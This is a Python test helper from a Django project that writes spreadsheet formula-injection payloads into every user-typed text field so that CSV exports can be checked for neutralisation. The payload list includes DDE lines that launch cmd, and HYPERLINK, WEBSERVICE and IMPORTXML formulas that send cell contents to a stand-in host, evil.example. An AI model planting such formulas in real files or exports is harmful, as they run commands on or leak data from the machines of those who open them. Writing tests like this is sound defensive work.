"""What a spreadsheet program would take for a formula, a command or a link, were it let; and every
text of the database put in its place."""

import re
from itertools import chain, count, product

from django.core.exceptions import ValidationError
from django.db import DatabaseError, models, transaction

from sakado_dx.records.triggers.tables import recorded_models

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
STARTS = ("", "\t", "\r", "\n", " ", "\u3000", "'", "''", "\u00a0")
WHOLE = (
    "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", "=DDE(\"cmd\",\"/c\",\"x\")",
    '=HYPERLINK("https://evil.example/?"&A1,"押す")', '=WEBSERVICE("https://evil.example/")',
    '=IMPORTXML("https://evil.example/","//a")', "=[1]'外'!A1", "=1+1", "-2+3", "+81-49-283-1111",
    "@here", '","=1+1', '"=1+1"', ";=1+1", "|=1+1", "https://evil.example/", "mailto:x@evil.example",
    "\\\\evil.example\\a", "{=1+1}", "R1C1", "#REF!", "%0A=1", "_x003D_1+1", "&=1", "<f>1+1</f>",
)  # fmt: skip
PAYLOADS = tuple(
    chain(
        WHOLE,
        (f"{start}{sign}1+1" for start, sign in product(STARTS, SIGNS) if start or sign > "z"),
    )
)
# As a program reads the cells of a CSV file; numbers are none of it.
LIVE = re.compile(r"[\t\r\n]|\s*[=+\-@＝＋－＠﹦﹢﹣﹫]")

# What no person types, and what decides how the rest is read.
NOT_TYPED = {
    "username", "password", "email", "stored_as", "minutes_stored_as", "sha256", "content_sha256",
    "file_hash", "key", "fiscal_years", "search_key", "match_key", "reading_key", "place",
    "words",  # of a result: only indicators in words have any
    "noun", "column",  # of which row and column a line of a revision is
}  # fmt: skip


def fill_with_payloads(*, stripped: bool = False) -> int:
    """Put another payload into every text that people may type, one for each cell of the database;
    how many it was. `stripped` as forms store what is typed. Inside `acting`, or records say
    直接SQL."""
    number, filled = count(), 0
    for model in recorded_models():
        names = [field.name for field in model._meta.concrete_fields if _is_typed(field)]
        for row in model._base_manager.all() if names else ():
            for name in names:
                text = f"{PAYLOADS[next(number) % len(PAYLOADS)]}{filled}"
                filled += _fill(row, name, text.strip() if stripped else text)
    return filled


def _is_typed(field: models.Field) -> bool:
    return (
        type(field) in (models.CharField, models.TextField)
        and not field.choices
        and field.name not in NOT_TYPED
    )


def _fill(row: models.Model, name: str, text: str) -> bool:
    """Whether the model's own rules let the text in."""
    before = getattr(row, name)
    others = {field.name for field in row._meta.fields} - {name}
    setattr(row, name, text)
    try:
        with transaction.atomic():
            row.full_clean(exclude=others)
            type(row)._base_manager.filter(pk=row.pk).update(**{name: getattr(row, name)})
    except (ValidationError, DatabaseError):
        setattr(row, name, before)
        return False
    return True
